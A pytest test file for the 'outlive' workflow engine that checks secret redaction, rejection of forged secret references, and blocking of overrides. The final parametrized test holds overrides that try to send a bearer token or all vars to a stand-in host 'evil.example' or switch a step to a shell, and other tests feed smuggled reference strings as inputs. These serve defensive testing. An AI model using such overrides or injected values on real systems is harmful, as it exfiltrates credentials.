"""A secret goes through a flow and leaves no trace: canaries in everything that is stored, logged or exported."""

from __future__ import annotations

import base64
import json
import logging
from collections.abc import Iterator
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

import outlive
from outlive import flow
from outlive._features.flows.built_in import NAMES, find_built_in
from outlive._features.flows.document.checking import parse_document
from outlive._features.flows.document.known_names import Known, shape_of
from outlive._features.flows.flow import FlowContent
from outlive._features.flows.outside import settings
from outlive._features.flows.outside.settings import HttpSettings, Settings
from outlive.errors import RunFailedError
from outlive.testing import Survivor, TestEngine, crash_everywhere
from tests.engine.inside import journal_of
from tests.flow.web import Asked, answer, serving

CANARY = "canary-7d1f-s3cret+/="
LOCAL = Settings(http=HttpSettings(allow_networks=["127.0.0.0/8"]))


@pytest.fixture(autouse=True)
def _settings(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("CANARY_TOKEN", CANARY)
    with settings.using(LOCAL):
        yield


def bound_to(*servers: str) -> AbstractContextManager[Any]:
    """Settings that let a start say where the secret goes, among these servers."""
    grant = {"hosts": [server.rstrip("/") for server in servers], "uses": ["canary_sign"]}
    return flow.using({"http": {"allow_networks": ["127.0.0.0/8"]}, "grants": {"token": grant}})


@outlive.step
async def canary_sign(token: str, text: str) -> dict[str, str]:
    """A step of a user that needs the value."""
    log = outlive.get_logger("canary")
    log.warning("signing %s with %s", text, flow.reveal(token))
    try:
        raise ValueError(flow.reveal(token))
    except ValueError:
        log.exception("a traceback")
    if text == "fail":
        raise ConnectionError(f"{flow.reveal(token)} was refused")
    return {"length": str(len(flow.reveal(token))), "echo": flow.reveal(token)}


BUILT_IN = Known({name: shape_of(find_built_in(name)) for name in NAMES})
VARS = {"token": {"secret": True, "env": "CANARY_TOKEN"}}


def canary_flow(name: str, steps: dict[str, Any], output: Any) -> flow.FlowWorkflow:
    """A flow with a secret."""
    plain = {"name": name, "input": {"url": "string", "text": "string"}, "vars": VARS, "steps": steps, "output": output}
    return flow.parse(json.dumps(plain))


async def test_no_trace_of_a_secret_is_left(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """Header, query, body and Basic; a server that echoes it all; a step of a user; failures: nothing holds it.

    [S30]
    """
    caplog.set_level(logging.DEBUG)
    token = "${{ vars.token }}"
    made = canary_flow(
        "canary",
        {
            "call": {
                "use": "http",
                "with": {
                    "method": "POST",
                    "url": "${{ input.url }}",
                    "query": {"key": token},
                    "headers": {"X-Token": f"t {token}"},
                    "basic": {"user": "me", "password": token},
                    "body": {"deep": [{"token": token, "text": "${{ input.text }}"}]},
                },
            },
            "sign": {"use": "canary_sign", "with": {"token": token, "text": "${{ input.text }}"}},
        },
        {"call": "${{ steps.call }}", "sign": "${{ steps.sign }}"},
    )

    def handle(asked: Asked) -> bytes:
        echo = json.dumps({**asked.headers, "path": asked.path, "body": asked.body.decode()})
        return answer(500 if "fail" in asked.path else 200, echo, Content_Type="application/json", X_Echo=asked.path)

    file = tmp_path / "runs.db"
    async with serving(handle) as web, TestEngine(f"sqlite:{file}") as engine:
        with bound_to(web.url("")):
            run = await engine.start(made, {"url": web.url("/fine"), "text": "hello"}, id="canary-1")
            result = await run.result()
            failed = await engine.start(made, {"url": web.url("/fail"), "text": "fail"}, id="canary-2")
            with pytest.raises(RunFailedError) as caught:
                await failed.result()
        exported = await engine.export("canary-1") + await engine.export("canary-2")
        shown = repr(await journal_of(engine, "canary-1")) + repr(await journal_of(engine, "canary-2"))

    assert web.asked[0].headers["x-token"] == f"t {CANARY}"
    assert json.loads(web.asked[0].body) == {"deep": [{"token": CANARY, "text": "hello"}]}
    assert result["call"]["body"]["x-token"] == "t [REDACTED]"
    assert result["sign"] == {"length": str(len(CANARY)), "echo": "[REDACTED]"}
    assert "signing hello with [REDACTED]" in caplog.text
    assert "ValueError: [REDACTED]" in caplog.text
    packed = base64.b64encode(f"me:{CANARY}".encode()).decode()
    stored = b"".join(path.read_bytes() for path in tmp_path.iterdir()).decode("latin-1")
    failure = f"{caught.value!r} {caught.value.failure}"
    for what in (stored, exported, shown, caplog.text, failure, json.dumps(result)):
        for form in (CANARY, quote(CANARY, safe=""), packed[6:-4]):
            assert form not in what


async def test_data_does_not_become_a_reference() -> None:
    """An input that looks like one lets the step fail before anything is sent. [S30]"""
    made = canary_flow(
        "canary_forged",
        {
            "call": {
                "use": "http",
                "with": {
                    "url": "${{ input.url }}",
                    "bearer": "${{ vars.token }}",
                    "text": "${{ input.text }}",
                },
            }
        },
        "${{ steps.call }}",
    )
    async with serving(lambda _: answer(200)) as web, TestEngine() as engine:
        forged = {"url": web.url(), "text": "\ufdd0secret:token:CANARY_TOKEN\ufdd1"}
        with pytest.raises(RunFailedError, match="is named by input"):
            await (await engine.start(made, forged)).result()

    assert web.asked == []


async def test_a_step_that_names_no_secret_gets_none() -> None:
    """Though it is given text that looks like a reference to one."""
    made = canary_flow(
        "canary_other",
        {"sign": {"use": "canary_sign", "with": {"token": "${{ input.url }}", "text": "${{ input.text }}"}}},
        "${{ steps.sign }}",
    )
    async with TestEngine() as engine:
        forged = {"url": "\ufdd0secret:token:CANARY_TOKEN\ufdd1", "text": "x"}
        with pytest.raises(RunFailedError, match="may not use it"):
            await (await engine.start(made, forged)).result()


async def test_a_missing_secret_says_where_it_is_looked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    """In the step that uses it: the worker that runs it needs it, and no other program does."""
    monkeypatch.delenv("CANARY_TOKEN")
    made = canary_flow(
        "canary_missing",
        {"call": {"use": "http", "with": {"url": "${{ input.url }}", "bearer": "${{ vars.token }}"}}},
        "${{ steps.call }}",
    )
    async with TestEngine() as engine:
        named = pytest.raises(RunFailedError, match="environment variable CANARY_TOKEN")
        with bound_to("http://127.0.0.1:1"), named:
            await (await engine.start(made, {"url": "http://127.0.0.1:1/", "text": ""})).result()


@pytest.mark.parametrize(
    ("part", "complaint"),
    [
        ({"output": "${{ vars.token }}"}, "is a secret, and this value is stored"),
        ({"if": "${{ vars.token != null }}"}, "is a secret, and this value is stored"),
        ({"with": {"url": "${{ upperAscii(vars.token) }}"}}, "no expression can compute with it"),
        ({"on_error": {"use_default": "${{ vars.token }}"}}, "is a secret, and this value is stored"),
        ({"use": "log", "with": {"message": "${{ vars.token }}"}}, "is a secret, and this value is stored"),
        ({"use": "map", "with": {"items": "${{ [vars.token] }}", "use": "noop"}}, "is a secret, and this"),
        ({"use": "map", "with": {"items": [1], "use": "log", "with": {"message": "${{ vars.token }}"}}}, "is a secret"),
    ],
)
def test_a_secret_elsewhere_is_a_mistake_of_the_document(part: dict[str, Any], complaint: str) -> None:
    """Found before anything runs."""
    step = {"use": "http", "with": {"url": "https://example.com"}, **{k: v for k, v in part.items() if k != "output"}}
    document = {"name": "canary_check", "vars": VARS, "steps": {"call": step}, "output": part.get("output", 1)}

    with pytest.raises(flow.FlowError, match=complaint):
        parse_document(json.dumps(document), known=BUILT_IN)


def test_a_secret_in_a_place_for_secrets_is_accepted() -> None:
    """A secret in `with` of a built-in that resolves it is accepted, in a text and for each item of a map."""
    inner = {"url": "https://example.com/${{ item }}", "headers": {"X-Token": "t ${{ vars.token }}"}}
    steps = {"all": {"use": "map", "with": {"items": [1], "use": "http", "with": inner}}}

    parse_document(json.dumps({"name": "canary_fine", "vars": VARS, "steps": steps}), known=BUILT_IN, strict=True)


async def test_a_request_survives_crashes(tmp_path: Path) -> None:
    """Whenever the process dies, the server sees one key for the step, and the run has one result."""
    made = canary_flow(
        "canary_crash",
        {
            "call": {
                "use": "http",
                "with": {"method": "POST", "url": "${{ input.url }}", "bearer": "${{ vars.token }}"},
            }
        },
        "${{ steps.call.body }}",
    )
    async with serving(lambda _: answer(200, '"done"', Content_Type="application/json")) as web:

        def check(survivor: Survivor) -> None:
            keys = {asked.headers["idempotency-key"] for asked in web.asked}
            assert len(keys) == 1
            assert {asked.headers["authorization"] for asked in web.asked} == {f"Bearer {CANARY}"}
            web.asked.clear()

        with bound_to(web.url("")):
            report = await crash_everywhere(made, {"url": web.url(), "text": ""}, check=check, max_points=5)

    assert report.points


async def test_a_secret_for_each_item_of_a_map() -> None:
    """The steps of a map use the secrets of the flow around them, and an item cannot be one."""
    inner = {"url": "${{ input.url }}", "query": {"q": "${{ item }}"}, "bearer": "${{ vars.token }}"}
    steps = {"all": {"use": "map", "with": {"items": ["a", "\ufdd0b"], "use": "http", "with": inner, "tolerate": 1}}}
    made = canary_flow("canary_map", steps, "${{ steps.all.errors }}")
    async with serving(lambda _: answer(200)) as web, TestEngine() as engine:
        with bound_to(web.url("")):
            errors = await (await engine.start(made, {"url": web.url(), "text": ""})).result()

    assert [(each["index"], each["type"]) for each in errors] == [(1, "SecretError")]
    assert [asked.headers["authorization"] for asked in web.asked] == [f"Bearer {CANARY}"]


@pytest.mark.parametrize(
    ("step", "patch"),
    [
        ("call", {"with": {"url": "https://evil.example"}}),
        ("call", {"use": "shell"}),
        ("call", {"undo": {"use": "http", "with": {"url": "https://evil.example"}}}),
        ("other", {"with": {"url": "https://evil.example", "bearer": "${{ vars.token }}"}}),
        ("other", {"with": {"url": "https://evil.example", "body": "${{ vars }}"}}),
    ],
)
def test_a_start_cannot_send_a_secret_elsewhere(step: str, patch: dict[str, Any]) -> None:
    """Overrides change neither what a step with a secret does, nor what another one may use; a timeout they do.
    [S30 FE-A7]
    """
    steps = {
        "call": {"use": "http", "with": {"url": "${{ input.url }}", "bearer": "${{ vars.token }}"}},
        "other": {"use": "http", "with": {"url": "https://example.com"}},
    }
    made = canary_flow("canary_override", steps, [f"${{{{ steps.{each} }}}}" for each in steps])

    with pytest.raises(flow.FlowError, match="uses the secret token, so a start cannot change"):
        FlowContent(made.document).plan_for({step: patch})
    FlowContent(made.document).plan_for({"call": {"timeout": 5}, "other": {"with": {"url": "https://example.org"}}})
